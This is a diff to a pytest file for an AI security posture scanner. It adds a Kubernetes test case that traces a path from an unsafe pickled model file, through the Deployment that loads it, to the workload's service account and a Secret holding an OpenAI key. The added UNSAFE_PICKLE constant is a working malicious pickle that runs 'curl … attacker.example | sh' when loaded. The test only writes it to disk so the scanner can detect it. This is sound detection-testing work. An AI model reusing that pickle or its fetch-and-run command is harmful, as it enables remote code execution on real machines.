@@ -9,8 +9,10 @@ where no path links that entry to that target any more.
   of which holds another OpenAI key. Two paths from the exposed workload to OpenAI: through the
   plain key it `contains`, and through its identity (`runs_as` → `has_role_on` the Secret →
   `holds_key_for`). Broken: the Service is `ClusterIP`.
-- `k8s-10`: a model file → the workload that loads it → its identity → the key its Role reads
-  (see `test_10_*`).
+- `k8s-10`: an unsafe model file (a pickle that imports `os.system`) named by a Deployment's
+  command line → the Deployment (`loaded_by`) → its service account → the Secret its Role reads →
+  OpenAI. The model file is written by the test into a copy of the estate (never loaded); broken:
+  the same manifests with a pickle that only builds a dict.
 
 Assets are matched by where they are declared (`origin.file`, `origin.address`).
 """
@@ -85,15 +87,48 @@ CASES = (
 )
 
 
+K10 = "deploy/sentiment.yaml"
+MODEL = "models/sentiment.pkl"
+#: Pickle opcodes (protocol 0), written as bytes and never loaded: `os.system('curl … | sh')` when
+#: unpickled, and a plain dict of weights.
+UNSAFE_PICKLE = b"cos\nsystem\n(S'curl -s http://attacker.example/x | sh'\ntR."
+SAFE_PICKLE = b"(dp0\nS'weights'\np1\n(lp2\nF0.5\naF0.25\nas."
+MODEL_CASE = Case("k8s-10-unsafe-model-served", "model-to-key", "unsafe-model", "external-service",
+                  steps=((At(MODEL, MODEL), None),
+                         (At(K10, "Deployment/ml/sentiment"), "loaded_by"),
+                         (At(K10, "ServiceAccount/ml/sentiment"), "runs_as"),
+                         (At(K10, "Secret/ml/openai"), "has_role_on"),
+                         (At(K10, "openai"), "holds_key_for")),
+                  broken_by="the model file is a pickle that only builds a dict",
+                  title_has=("Unsafe", "is loaded by", "runs as", "holds a key to service openai"),
+                  risk_factors=frozenset({"unsafe-model", "permissions", "secrets"}))
+
+
 @lru_cache(maxsize=None)
 def _scan(estate: str, variant: str) -> ScanResult:
+    if estate == MODEL_CASE.estate:
+        return _scan_with_model(variant)
     root = ESTATES / estate / variant
     assert root.is_dir(), root
     return scan([str(root)])
 
 
+def _scan_with_model(variant: str) -> ScanResult:
+    import shutil
+    import tempfile
+
+    root = Path(tempfile.mkdtemp(prefix="aispm-k8s-10-")) / variant
+    shutil.copytree(ESTATES / MODEL_CASE.estate / variant, root)
+    (root / "models").mkdir()
+    (root / MODEL).write_bytes(UNSAFE_PICKLE if variant == "found" else SAFE_PICKLE)
+    try:
+        return scan([str(root)])
+    finally:
+        shutil.rmtree(root.parent, ignore_errors=True)
+
+
 def find_asset(r: ScanResult, at: At) -> Asset | None:
-    if at is OPENAI:
+    if at is OPENAI or at.address == "openai":
         return next((a for a in r.assets if a.uid == "external:openai"), None)
     hits = [a for a in r.assets if at.matches(a)]
     assert len(hits) <= 1, f"{at} matches {len(hits)} assets"
@@ -113,12 +148,15 @@ def listing(r: ScanResult) -> str:
 
 def test_every_k8s_estate_has_found_and_broken_and_a_case():
     on_disk = sorted(p.name for p in ESTATES.iterdir() if p.is_dir() and p.name.startswith("k8s-"))
-    assert on_disk == sorted({c.estate for c in CASES} | {"k8s-10-unsafe-model-served"})
+    assert on_disk == sorted({c.estate for c in ALL})
     for name in on_disk:
         assert (ESTATES / name / "found").is_dir() and (ESTATES / name / "broken").is_dir(), name
 
 
-@pytest.mark.parametrize("case", CASES, ids=str)
+ALL = (*CASES, MODEL_CASE)
+
+
+@pytest.mark.parametrize("case", ALL, ids=str)
 def test_found(case: Case):
     r = _scan(case.estate, "found")
     assert r.errors == [], r.errors
@@ -137,7 +175,7 @@ def test_found(case: Case):
     assert p.remediation and 0 < p.score <= 100
 
 
-@pytest.mark.parametrize("case", CASES, ids=str)
+@pytest.mark.parametrize("case", ALL, ids=str)
 def test_broken(case: Case):
     r = _scan(case.estate, "broken")
     assert r.errors == [], r.errors
@@ -174,3 +212,14 @@ def test_09_broken_workload_is_not_exposed():
     assert wl.facts["internet_exposed"] is False
     k001 = [f for f in r.findings if f.rule_id == "AISPM-K8S-001" and f.asset_uid == wl.uid]
     assert [str(f.status) for f in k001] == ["pass"]
+
+
+def test_10_the_model_is_an_unsafe_entry_only_in_found():
+    found, broken = _scan(MODEL_CASE.estate, "found"), _scan(MODEL_CASE.estate, "broken")
+    model = find_asset(found, At(MODEL, MODEL))
+    assert model.type == "machine-learning-model" and model.facts["unsafe_imports"]
+    assert find_asset(broken, At(MODEL, MODEL)).facts["unsafe_imports"] == []
+    wl = find_asset(found, At(K10, "Deployment/ml/sentiment"))
+    assert ("uses_model", model.uid) in {(x.verb, x.target) for x in found.relations if x.source == wl.uid}
+    p = next(p for p in found.attack_paths if p.entry == model.uid)
+    assert p.remediation.startswith("replace machine-learning-model") or "safetensors" in p.remediation, p.remediation
